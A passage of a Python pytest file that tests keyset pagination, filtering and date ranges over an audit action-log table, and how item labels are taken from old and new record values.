    # admin ones: fetched through the kind index, sorted, paged by keyset
    rare = []
    for i in range(25):
        rare.append(
            put(
                conn,
                occurred_at=T0 - timedelta(hours=5 * (i // 5)),
                source="mobile",
                actor_type="system",
                actor_id=f"sys-{i}",
                action_type="send",
                resource_type="batch_job",
            )
        )
    conn.commit()
    conn.execute("analyze audit.action_log")
    conn.commit()
    by_page = sorted(
        rare,
        key=lambda i: (
            conn.execute("select occurred_at from audit.action_log where id = %s", (i,)).fetchone()[
                0
            ],
            i,
        ),
        reverse=True,
    )
    for args in (
        {"source": "mobile", "actor_type": "system"},
        {"source": "mobile", "action_type": "send", "resource": "batch_job"},
        {"resource": "batch_job"},
    ):
        filters = parse_filters(args, UTC)
        pages, page = [], list_page(conn, filters, size=10)
        while True:
            pages.append(ids(page))
            if page.next_cursor is None:
                break
            page = list_page(conn, filters, cursor=page.next_cursor, size=10)
        assert list(itertools.chain(*pages)) == by_page, args
        assert [len(p) for p in pages] == [10, 10, 5]
        back = list_page(conn, filters, cursor=page.prev_cursor, direction="prev", size=10)
        assert ids(back) == pages[1]
    # with a date range: the rare rows inside it only
    day = (T0 - timedelta(days=1)).date().isoformat()
    page = page_of(conn, {"source": "mobile", "actor_type": "system", "from": day, "to": day})
    assert len(page.rows) == 10 and ids(page) == [
        i
        for i in by_page
        if conn.execute(
            "select occurred_at::date = %s::date from audit.action_log where id = %s", (day, i)
        ).fetchone()[0]
    ]


def test_an_actor_with_a_source_it_never_uses(conn, common_log):
    assert page_of(conn, {"actor": "id:admin-3", "source": "mobile"}).rows == []
    made = [
        put(
            conn,
            occurred_at=T0 - timedelta(seconds=10 * i + 5),
            actor_id="admin-3",
            source="mobile",
        )
        for i in range(12)
    ]
    conn.commit()
    filters = parse_filters({"actor": "id:admin-3", "source": "mobile"}, UTC)
    first = list_page(conn, filters, size=10)
    assert ids(first) == made[:10]
    second = list_page(conn, filters, cursor=first.next_cursor, size=10)
    assert ids(second) == made[10:] and second.next_cursor is None
    assert (
        ids(list_page(conn, filters, cursor=second.prev_cursor, direction="prev", size=10))
        == made[:10]
    )


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (None, {"id": 1, "name": "Ana Diaz"}, "Ana Diaz"),  # created
        ({"id": 1, "name": "Ana Diaz"}, None, "Ana Diaz"),  # deleted
        ({"name": "Ana"}, {"name": "Ana Diaz"}, "Ana Diaz"),  # renamed: the new name
        ({"status": "new"}, {"status": "won"}, None),  # the name did not change
        (None, {"id": 1, "name": "[redacted]"}, None),  # never show a redacted value
        (None, {"id": 1, "name": None}, None),
        (None, {"id": 1, "name": {"first": "Ana"}}, None),  # not a plain value
        (None, {"id": 1, "name": 42}, "42"),
    ],
)
def testitem_label(old, new, expected):
    item = Item(item_no=1, resource_type="client", resource_id="1", old=old, new=new)
    assert item_label(item, "name") == expected
    assert item_label(item, None) is None  # a type without a label column
